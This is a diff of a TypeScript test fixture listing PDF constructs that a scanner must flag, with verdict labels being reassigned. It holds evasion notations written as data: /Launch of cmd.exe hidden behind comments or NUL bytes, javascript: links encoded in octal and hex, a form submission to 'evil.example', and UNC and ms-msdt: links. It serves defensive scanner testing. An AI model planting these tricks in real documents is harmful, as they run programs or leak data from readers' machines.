@@ -1,7 +1,7 @@
 // PDFs with forbidden contents in unusual notations, and harmless ones with the same notations or words.
 import { createHash } from 'node:crypto'
 import { deflateRawSync, deflateSync } from 'node:zlib'
-import type { ScanVerdict } from '../../../server/document/pdf/findings.ts'
+import type { ScanVerdict } from '../../../src/domain/document/pdf/findings.ts'
 import { alert, document, packedPdf, stream } from './hostile-pdfs.ts'
 
 /** The catalog does not refer to it: the scan must find it by the objects themselves. */
@@ -122,38 +122,38 @@ export const DISGUISED_PDFS: readonly (readonly [how: string, verdict: ScanVerdi
   ['brackets without end', 'broken', document(`/X ${'['.repeat(100_000)}`)],
   ['objects inside of one another', 'broken', document('', '', '1 0 obj ('.repeat(10_000))],
   // Actions.
-  ['a comment before what is launched', 'scripted', link('<< /S%c\n/Launch /F (cmd.exe) >>')],
-  ['NUL before what is launched', 'scripted', link('<< /S\0/Launch /F (cmd.exe) >>')],
-  ['«Launch» elsewhere, of a link', 'scripted', link('<< /S 4 0 R /F (cmd.exe) >>', '/Launch')],
-  ['«Launch» elsewhere, at opening', 'scripted', document('/OpenAction << /S 4 0 R /F (cmd.exe) >>', '', '/Launch')],
-  ['«Launch» elsewhere, in an object stream', 'scripted', packedPdf('', ' /Launch')],
-  ['a comment before a rendition', 'scripted', link('<< /S%\n/Rendition /OP 0 /JS (app.alert\\(1\\)) >>')],
+  ['a comment before what is launched', 'opening', link('<< /S%c\n/Launch /F (cmd.exe) >>')],
+  ['NUL before what is launched', 'opening', link('<< /S\0/Launch /F (cmd.exe) >>')],
+  ['«Launch» elsewhere, of a link', 'opening', link('<< /S 4 0 R /F (cmd.exe) >>', '/Launch')],
+  ['«Launch» elsewhere, at opening', 'opening', document('/OpenAction << /S 4 0 R /F (cmd.exe) >>', '', '/Launch')],
+  ['«Launch» elsewhere, in an object stream', 'opening', packedPdf('', ' /Launch')],
+  ['a comment before a rendition', 'media', link('<< /S%\n/Rendition /OP 0 /JS (app.alert\\(1\\)) >>')],
   ['a script without its kind', 'scripted', document('/Names << /JavaScript << /Names [(a) << /JS (1) >>] >> >>')],
-  ['a comment before a form that is a program', 'scripted', document('/AcroForm << /XFA %c\n 4 0 R >>', '', program)],
-  ['a form that is sent', 'scripted', link('<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>')],
-  ['data that are fetched', 'scripted', link('<< /S /ImportData /F (x.fdf) >>')],
-  ['a file elsewhere', 'scripted', link('<< /S /GoToR /F (x.pdf) /D [0 /Fit] >>')],
-  ['a file within', 'scripted', link('<< /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>')],
-  ['a folder of others', 'scripted', link('<< /S /Thread /F (\\\\\\\\evil\\\\share) >>')],
+  ['a comment before a form that is a program', 'form', document('/AcroForm << /XFA %c\n 4 0 R >>', '', program)],
+  ['a form that is sent', 'opening', link('<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>')],
+  ['data that are fetched', 'form', link('<< /S /ImportData /F (x.fdf) >>')],
+  ['a file elsewhere', 'opening', link('<< /S /GoToR /F (x.pdf) /D [0 /Fit] >>')],
+  ['a file within', 'opening', link('<< /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>')],
+  ['a folder of others', 'opening', link('<< /S /Thread /F (\\\\\\\\evil\\\\share) >>')],
   [
     'a script of a model',
     'scripted',
     document('', '', stream('/Type /3D /Subtype /U3D /OnInstantiate 5 0 R', Buffer.from('U3D'))),
   ],
-  ['a link to a script', 'scripted', to('(javascript:alert\\(1\\))')],
-  ['a link to a script in other letters', 'scripted', to('(\\152ava\\\nScript\\072alert)')],
-  ['a link to a script in numbers', 'scripted', to('<FEFF006A006100760061007300630072006900700074003A00310029>')],
-  ['a link to a script behind white space', 'scripted', to(`(${' '.repeat(500)}\t\\njavascript:1)`)],
-  ['a link to a script elsewhere', 'scripted', link('<< /S /URI /URI 4 0 R >>', '(javascript:alert)')],
-  ['a link to a file', 'scripted', to('(file:///c:/windows/system32/cmd.exe)')],
-  ['a link to a folder of others', 'scripted', to('(\\\\\\\\server\\\\share)')],
-  ['a link to a program’s own scheme', 'scripted', to('(ms-msdt:/id)')],
+  ['a link to a script', 'opening', to('(javascript:alert\\(1\\))')],
+  ['a link to a script in other letters', 'opening', to('(\\152ava\\\nScript\\072alert)')],
+  ['a link to a script in numbers', 'opening', to('<FEFF006A006100760061007300630072006900700074003A00310029>')],
+  ['a link to a script behind white space', 'opening', to(`(${' '.repeat(500)}\t\\njavascript:1)`)],
+  ['a link to a script elsewhere', 'opening', link('<< /S /URI /URI 4 0 R >>', '(javascript:alert)')],
+  ['a link to a file', 'opening', to('(file:///c:/windows/system32/cmd.exe)')],
+  ['a link to a folder of others', 'opening', to('(\\\\\\\\server\\\\share)')],
+  ['a link to a program’s own scheme', 'opening', to('(ms-msdt:/id)')],
   // Embedded files.
   ['a file of a note', 'attached', document('', `/Annots [<< /Subtype /FileAttachment /FS ${FILE} >>]`, program)],
   ['an associated file', 'attached', document(`/AF [${FILE}]`, '', program)],
   [
     'a file of a rich medium',
-    'scripted',
+    'media',
     document(
       '',
       `/Annots [<< /Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a) ${FILE}] >> >> >>]`,
